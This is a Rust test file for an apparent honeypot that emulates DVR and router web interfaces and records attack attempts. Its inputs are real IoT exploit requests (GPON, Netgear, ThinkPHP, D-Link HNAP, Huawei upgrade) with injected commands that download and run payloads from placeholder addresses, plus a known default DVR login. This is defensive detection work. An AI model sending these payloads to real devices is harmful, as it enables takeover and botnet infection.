use super::*;
use crate::profile::{DVR, ROUTER};

fn serve(profile: &'static Profile, request: &str) -> (String, Vec<Detail>) {
    let (mut s, _) = HttpSession::new(profile);
    // Byte by byte: the head and body may arrive in any pieces.
    let mut send = Vec::new();
    let mut details = Vec::new();
    for b in request.as_bytes() {
        let step = s.feed(std::slice::from_ref(b));
        send.extend(step.send);
        details.extend(step.details);
    }
    (String::from_utf8_lossy(&send).into_owned(), details)
}

fn downloads(details: &[Detail]) -> Vec<String> {
    details
        .iter()
        .filter_map(|d| match d {
            Detail::FileDownload { url: Some(u), .. } => Some(u.clone()),
            _ => None,
        })
        .collect()
}

#[test]
fn gpon_exploit_command_and_url_are_recorded() {
    let body = "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=%60busybox+wget+http%3A%2F%2F198.51.100.7%2Fgpon+-O+%2Ftmp%2Fgaf%3Bsh+%2Ftmp%2Fgaf%60&ipv=0";
    let req = format!("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nUser-Agent: Hello, World\r\nContent-Length: {}\r\n\r\n{body}", body.len());
    let (reply, details) = serve(&DVR, &req);
    assert!(
        reply.starts_with("HTTP/1.1 200 OK\r\nServer: uc-httpd 1.0.0\r\n"),
        "{reply}"
    );
    assert_eq!(
        details[0],
        Detail::HttpRequest {
            method: "POST".into(),
            uri: "/GponForm/diag_Form?images/".into(),
            user_agent: Some("Hello, World".into()),
            exploit: Some("gpon-diag-form"),
        }
    );
    assert_eq!(
        details[1],
        Detail::CommandInput {
            input: "busybox wget http://198.51.100.7/gpon -O /tmp/gaf;sh /tmp/gaf".into()
        }
    );
    assert_eq!(downloads(&details), ["http://198.51.100.7/gpon"]);
}

#[test]
fn other_known_exploits_are_recognised() {
    let cases = [
        ("GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.8/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n", "netgear-setup-cgi", "http://198.51.100.8/Mozi.m"),
        ("GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20http://198.51.100.9/t.sh%20-O%20/tmp/t HTTP/1.1\r\n\r\n", "thinkphp-invokefunction", "http://198.51.100.9/t.sh"),
        ("POST /HNAP1/ HTTP/1.0\r\nSOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://203.0.113.5/d`\r\n\r\n", "dlink-hnap-soapaction", "http://203.0.113.5/d"),
    ];
    for (req, name, url) in cases {
        let (_, details) = serve(&ROUTER, req);
        assert!(
            matches!(&details[0], Detail::HttpRequest { exploit: Some(e), .. } if *e == name),
            "{name}: {details:?}"
        );
        assert_eq!(downloads(&details), [url], "{name}");
    }
    let soap = "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 198.51.100.4 -l /tmp/h -r /h)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>";
    let req = format!(
        "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: {}\r\n\r\n{soap}",
        soap.len()
    );
    let (_, details) = serve(&ROUTER, &req);
    assert!(
        matches!(&details[1], Detail::CommandInput { input } if input.starts_with("/bin/busybox wget -g"))
    );
}

#[test]
fn basic_logins_are_recorded() {
    // root:xc3511 and root:nope
    let (reply, details) = serve(
        &DVR,
        "GET / HTTP/1.1\r\nAuthorization: Basic cm9vdDp4YzM1MTE=\r\n\r\n",
    );
    assert!(reply.starts_with("HTTP/1.1 200 OK") && reply.contains("NETSURVEILLANCE WEB"));
    assert_eq!(
        details[1],
        Detail::LoginSuccess {
            username: "root".into(),
            password: "xc3511".into()
        }
    );
    let (reply, details) = serve(
        &DVR,
        "GET / HTTP/1.1\r\nAuthorization: Basic cm9vdDpub3Bl\r\n\r\n",
    );
    assert!(
        reply.starts_with("HTTP/1.1 401 Unauthorized") && reply.contains("WWW-Authenticate: Basic")
    );
    assert_eq!(
        details[1],
        Detail::LoginFailed {
            username: "root".into(),
            password: "nope".into()
        }
    );
}

#[test]
fn oversized_and_malformed_requests_end_the_connection() {
    let (mut s, _) = HttpSession::new(&DVR);
    let step = s.feed(&vec![b'A'; MAX_HTTP_HEAD + 1]);
    assert_eq!(step.end, Some(End::LineTooLong));
    let (reply, details) = serve(
        &DVR,
        &format!(
            "POST / HTTP/1.1\r\nContent-Length: {}\r\n\r\n",
            MAX_HTTP_BODY + 1
        ),
    );
    assert!(reply.starts_with("HTTP/1.1 413"));
    assert!(details.is_empty());
    let (reply, _) = serve(&DVR, "\u{16}\u{3}\u{1} garbage\r\n\r\n");
    assert!(reply.starts_with("HTTP/1.1 400"));
    assert_eq!(url_decode("a%2"), "a%2");
    assert_eq!(url_decode("%zz+%41"), "%zz A");
    assert_eq!(injected_commands("1.1.1.1;wget x"), ["wget x"]);
    assert_eq!(injected_commands("$(a $(b)) `c`"), ["a $(b)", "c"]);
}
